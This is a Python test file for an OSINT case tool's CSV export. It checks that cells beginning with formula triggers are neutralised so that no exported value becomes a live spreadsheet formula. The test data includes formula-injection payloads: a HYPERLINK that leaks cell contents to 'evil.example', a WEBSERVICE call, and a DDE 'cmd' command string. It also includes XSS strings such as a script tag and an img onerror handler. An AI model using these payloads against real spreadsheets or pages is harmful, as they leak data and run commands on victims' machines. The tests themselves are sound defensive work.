"""CSV tables: one per kind, joined by public ids, and never a live formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import zipfile
from pathlib import Path

import pytest

from osint_desk.core.errors import OsintDeskError
from osint_desk.core.exports.tables import (
    FILE_NAMES,
    FORMULA_TRIGGERS,
    cell,
    export_csv,
    neutralise,
)
from osint_desk.core.store import CaseStore
from osint_desk.core.store.screening_results import Finding

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1+1",
    "\r=1+1",
    " =1+1",
    "＝1+1",
    "=cmd|' /C calc'!A0",
]
SAFE = ["Wagner Group", "2022-11", "", "O'Brien", "Ким Чен Ын", "金正恩", "a=b", "B2"]


def _read(data: bytes) -> list[dict[str, str]]:
    assert data.startswith(b"\xef\xbb\xbf"), "UTF-8 with a byte-order mark, for Excel"
    return list(csv.DictReader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def _tables(folder: Path) -> dict[str, list[dict[str, str]]]:
    return {path.stem: _read(path.read_bytes()) for path in sorted(folder.glob("*.csv"))}


def _assert_inert(tables: dict[str, list[dict[str, str]]]) -> None:
    for name, rows in tables.items():
        for row in rows:
            for column, value in row.items():
                first = value.lstrip()[:1]
                assert not value or (value[0] not in FORMULA_TRIGGERS
                                     and first not in FORMULA_TRIGGERS), (name, column, value)


@pytest.mark.parametrize("value", HOSTILE)
def test_every_hostile_value_is_neutralised_and_round_trips_as_text(value: str) -> None:
    safe = neutralise(value)
    assert safe == "'" + value
    buffer = io.StringIO(newline="")
    csv.writer(buffer, lineterminator="\r\n").writerow([cell(value)])
    (read_back,) = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert read_back == [safe]


@pytest.mark.parametrize("value", SAFE)
def test_ordinary_text_is_left_alone(value: str) -> None:
    assert neutralise(value) == value


def test_numbers_from_numeric_fields_stay_numbers_but_number_like_text_does_not() -> None:
    assert cell(-5) == -5 and cell(0.93) == 0.93 and cell(None) is None
    assert cell("-5") == "'-5"
    assert cell(True) == "True"


@pytest.fixture
def hostile(store: CaseStore) -> CaseStore:
    """A case whose every text field a user or a source controls tries something."""
    text = "Intro.\nДоклад: =HYPERLINK(\"http://evil\",\"x\") said \"hello\",\nthen 金正恩 spoke."
    source = store.sources.add(text=text, title='=HYPERLINK("http://evil","x")',
                               url="http://example.org/a", outlet="@outlet", author="+author",
                               notes="\t=1+1", reliability="B", published="2022-12-22")
    card = store.entities.add("Person", "=1+2", description="-2+3\n<script>alert(1)</script>",
                              attributes={"nationality": ["=ru"]},
                              aliases=["@SUM(A1)", "Ким Чен Ын"])
    other = store.entities.add("Organization", "<img src=x onerror=alert(1)> Corp")
    start = text.index("Доклад")
    excerpt = store.excerpts.add(source.id, start, start + 6, note='\r=2+2 and "quoted"\nline 2',
                                 credibility=2, stance="asserts", speaker_id=card.id,
                                 entity_ids=[card.id, other.id])
    store.relationships.add(card.id, "funded", other.id, confidence=70, note="-1",
                            evidence=[(excerpt.id, "supports")])
    sanction = store.sanctions.add(card.id, "OFAC", programs=["=RUSSIA-EO14024"],
                                   entry_ref="123", reason='=WEBSERVICE("http://evil")',
                                   provenance={"list": "=x"}, evidence=[(excerpt.id, "context")])
    store.tags.tag("entity", card.id, "=tag")
    store.tags.tag("sanction", sanction.id, "ok tag")
    store.screening.record(
        entity_ids=[card.id], checks=[], threshold=0.7, lists=[], names=1,
        findings=[Finding(card.id, "OFAC", "999", "ofac-sdn", "SDN", "2019-01-01", "ab" * 32,
                          0.93, "=1+2", "=1+2", "-LISTED, Name", "@why", {"name": "x"},
                          "cd" * 32)])
    return store


def test_hostile_case_exports_with_no_active_cell_anywhere(hostile: CaseStore,
                                                           tmp_path: Path) -> None:
    written = export_csv(hostile, tmp_path / "out")
    assert {p.name for p in written} == FILE_NAMES
    tables = _tables(tmp_path / "out")
    _assert_inert(tables)
    (source,) = tables["sources"]
    assert source["title"] == "'" + '=HYPERLINK("http://evil","x")'
    assert source["notes"] == "'\t=1+1"
    assert source["outlet"] == "'@outlet" and source["author"] == "'+author"
    (excerpt,) = tables["excerpts"]
    assert excerpt["note"] == "'\r=2+2 and \"quoted\"\nline 2"
    assert excerpt["quote"] == "Доклад" and excerpt["grade"] == "B2"
    assert excerpt["speaker"] == "'=1+2"
    card = next(r for r in tables["entities"] if r["type"] == "Person")
    assert card["name"] == "'=1+2" and card["description"].startswith("'-2+3\n<script>")
    assert card["aliases"] == "'@SUM(A1); Ким Чен Ын"
    assert {a["name"] for a in tables["aliases"]} == {"'@SUM(A1)", "Ким Чен Ын"}
    (sanction,) = tables["sanctions"]
    assert sanction["reason"].startswith("'=WEBSERVICE")
    assert sanction["programs"] == "'=RUSSIA-EO14024"
    (relationship,) = tables["relationships"]
    assert relationship["note"] == "'-1" and relationship["confidence"] == "70"
    assert relationship["likelihood"] == "likely"
    (hit,) = tables["screening_hits"]
    assert hit["score"] == "0.93" and hit["listed_name"] == "'-LISTED, Name"
    assert {t["name"] for t in tables["tags"]} == {"'=tag", "ok tag"}


def test_files_are_rfc4180_crlf_with_a_bom(hostile: CaseStore, tmp_path: Path) -> None:
    export_csv(hostile, tmp_path / "out")
    data = (tmp_path / "out" / "excerpts.csv").read_bytes()
    assert data.startswith(b"\xef\xbb\xbf")
    header_end = data.index(b"\n")
    assert data[header_end - 1:header_end + 1] == b"\r\n"
    assert data.endswith(b"\r\n")
    # The embedded quote is doubled and the field with a line break is quoted (RFC 4180).
    assert b'"\'\r=2+2 and ""quoted""\nline 2"' in data


def test_zip_holds_the_same_tables_as_the_folder(hostile: CaseStore, tmp_path: Path) -> None:
    export_csv(hostile, tmp_path / "folder")
    assert export_csv(hostile, tmp_path / "tables.zip") == [tmp_path / "tables.zip"]
    with zipfile.ZipFile(tmp_path / "tables.zip") as archive:
        assert set(archive.namelist()) == FILE_NAMES
        for name in FILE_NAMES:
            assert archive.read(name) == (tmp_path / "folder" / name).read_bytes()
    assert not list(tmp_path.glob("*.part"))


def test_a_folder_with_other_files_is_refused_and_left_alone(store: CaseStore,
                                                              tmp_path: Path) -> None:
    folder = tmp_path / "mine"
    folder.mkdir()
    (folder / "thesis.docx").write_bytes(b"precious")
    with pytest.raises(OsintDeskError, match=r"thesis\.docx"):
        export_csv(store, folder)
    assert [p.name for p in folder.iterdir()] == ["thesis.docx"]
    (tmp_path / "afile").write_text("x")
    with pytest.raises(OsintDeskError, match="a file is already there"):
        export_csv(store, tmp_path / "afile")
    with pytest.raises(OsintDeskError, match="does not exist"):
        export_csv(store, tmp_path / "no" / "such")


def test_exporting_again_into_our_own_folder_replaces_the_tables(hostile: CaseStore,
                                                                 tmp_path: Path) -> None:
    export_csv(hostile, tmp_path / "out")
    (tmp_path / "out" / ".DS_Store").write_bytes(b"")
    hostile.entities.add("Person", "Second Person")
    export_csv(hostile, tmp_path / "out")
    names = {r["name"] for r in _tables(tmp_path / "out")["entities"]}
    assert "Second Person" in names
    assert not list((tmp_path / "out").glob("*.part"))


def test_demo_tables_join_by_public_id_and_match_the_case(demo: CaseStore,
                                                          tmp_path: Path) -> None:
    deleted = demo.excerpts.list()[-1]
    demo.excerpts.delete(deleted.id)
    export_csv(demo, tmp_path / "out")
    tables = _tables(tmp_path / "out")
    _assert_inert(tables)
    counts = demo.counts()
    assert len(tables["sources"]) == counts.sources
    assert len(tables["excerpts"]) == counts.excerpts
    assert len(tables["entities"]) == counts.entities
    assert len(tables["relationships"]) == counts.relationships
    assert len(tables["sanctions"]) == counts.sanctions
    assert len(tables["tags"]) == counts.tags
    assert len(tables["aliases"]) == sum(len(e.aliases) for e in demo.entities.list())
    ids = {name: {r["id"] for r in rows} for name, rows in tables.items() if rows
           and "id" in rows[0]}
    assert deleted.id not in ids["excerpts"]
    assert all(r["source_id"] in ids["sources"] for r in tables["excerpts"])
    assert all(r["entity_id"] in ids["entities"] for r in tables["aliases"])
    for link in ("mentions", "relationship_evidence", "sanction_evidence"):
        assert tables[link] and all(r["excerpt_id"] in ids["excerpts"] for r in tables[link])
    assert all(r["relationship_id"] in ids["relationships"]
               for r in tables["relationship_evidence"])
    assert all({r["subject_id"], r["object_id"]} <= ids["entities"]
               for r in tables["relationships"])
    kinds = {"source": "sources", "excerpt": "excerpts", "entity": "entities",
             "relationship": "relationships", "sanction": "sanctions"}
    assert tables["taggings"]
    assert all(r["target_id"] in ids[kinds[r["target_kind"]]] for r in tables["taggings"])
    assert all(r["tag_id"] in ids["tags"] for r in tables["taggings"])
    excerpt = demo.excerpts.list()[0]
    row = next(r for r in tables["excerpts"] if r["id"] == excerpt.id)
    assert row["quote"] == excerpt.quote
    assert (int(row["start"]), int(row["end"])) == (excerpt.start, excerpt.end)
    source = tables["sources"][0]
    assert source["text_sha256"] == demo.sources.list()[0].text_sha256
    assert "text" not in source
